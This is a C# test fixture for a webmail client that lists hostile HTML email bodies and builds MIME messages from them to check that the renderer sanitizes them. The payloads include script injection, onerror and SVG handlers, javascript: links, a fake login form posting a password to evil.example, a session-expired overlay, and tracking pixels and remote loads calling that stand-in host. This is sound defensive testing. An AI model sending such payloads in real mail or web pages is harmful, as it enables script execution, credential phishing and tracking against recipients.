namespace Webmail.Web.Tests;

/// <summary>HTML mails that try to run script, load remote resources or escape their frame. "evil.example" must never be contacted.</summary>
public static class HostileMessages
{
    public static readonly (string Name, string Html)[] All =
    [
        ("script tag", "<p>hi</p><script>window.top.__pwned = 'script'; fetch('http://evil.example/s')</script>"),
        ("img onerror", "<img src=x onerror=\"window.top.__pwned='onerror';new Image().src='http://evil.example/e'\">"),
        ("svg animate", "<svg><animate onbegin=\"top.__pwned='animate'\" attributeName=x dur=1s /><set attributeName=href to=\"javascript:top.__pwned='set'\" /><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0naHR0cDovL2V2aWwuZXhhbXBsZS91Jy8+PC9zdmc+#x\" /></svg>"),
        ("feImage", "<svg><filter id=f><feImage href=\"http://evil.example/fe.png\" /></filter><rect filter=\"url(#f)\" width=10 height=10 /></svg>"),
        ("javascript link", "<a id=j href=\"javascript:top.__pwned='link'\">click</a><a href=\"data:text/html,<script>top.__pwned=1</script>\">data</a>"),
        ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/refresh\"><p>refresh</p>"),
        ("form", "<form action=\"http://evil.example/post\" method=post><input name=password><button>Log in</button></form>"),
        ("fixed overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red\">Your session expired</div>"),
        ("tracking pixel", "<p>Newsletter</p><img src=\"http://evil.example/pixel.gif?u=1\" width=1 height=1>"),
        ("css url", "<div style=\"background-image:url('http://evil.example/bg.png');width:50px;height:50px\">bg</div><style>body{background:url(http://evil.example/style.png)}</style>"),
        ("base href", "<base href=\"http://evil.example/\"><img src=\"relative.png\"><a href=\"page\">rel</a>"),
        ("iframe and object", "<iframe src=\"http://evil.example/frame\"></iframe><object data=\"http://evil.example/o\"></object><embed src=\"http://evil.example/e\">"),
        ("link stylesheet", "<link rel=stylesheet href=\"http://evil.example/s.css\"><p>styled</p>"),
        ("srcset and video", "<img srcset=\"http://evil.example/1x.png 1x\"><video poster=\"http://evil.example/p.png\" src=\"http://evil.example/v.mp4\"></video>"),
    ];

    public static byte[] Message(string to, string name, string html) => WebFixture.Ascii(
        $"From: Mallory <mallory@evil.example>\nTo: {to}\nSubject: Hostile: {name}\nDate: Sat, 28 Nov 2026 10:00:00 +0000\n" +
        $"Message-ID: <{Guid.NewGuid():N}@evil.example>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<html><body>{html}</body></html>\n");
}
